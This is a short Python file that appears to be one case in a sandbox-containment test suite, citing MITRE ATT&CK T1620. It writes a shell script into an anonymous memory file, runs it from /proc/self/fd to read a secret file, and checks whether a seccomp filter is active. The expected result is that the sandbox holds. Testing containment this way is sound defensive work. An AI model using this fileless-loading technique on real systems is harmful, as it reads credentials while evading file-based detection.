"""A server runs a program that lies in no file, out of memory, and has that read the keys.

Source: MITRE ATT&CK T1620, Reflective Code Loading.
Seen: it is in the same sandbox, with the same filter.
"""

import os
import subprocess

from escaping import HELD, Escaping


class Attack(Escaping):
    def escape(self):
        held = os.memfd_create("program", 0)
        filtered = "grep -q '^Seccomp:.*2$' /proc/self/status || echo without a filter"
        os.write(held, f"#!/bin/sh\ncat '{self.stage.secret}' 2>/dev/null\n{filtered}".encode())
        ran = subprocess.run([f"/proc/self/fd/{held}"], pass_fds=(held,), capture_output=True, text=True, check=False)
        return ran.stdout


SEEN = HELD
